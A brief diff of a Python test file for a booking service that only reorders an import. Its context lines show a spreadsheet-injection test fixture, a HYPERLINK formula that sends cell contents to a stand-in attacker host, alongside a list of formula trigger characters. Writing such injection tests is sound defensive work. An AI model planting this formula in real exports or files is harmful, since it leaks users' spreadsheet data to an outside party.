@@ -23,7 +23,7 @@ from chargebook.services.bookings import transition_booking
 from chargebook.services.catalogue import seed_catalogue
 from chargebook.services.clock import utcnow
 from tests.conftest import LiveServer
-from tests.factories import api, evse, make_client, unique_party_id, with_db, window
+from tests.factories import api, evse, make_client, unique_party_id, window, with_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
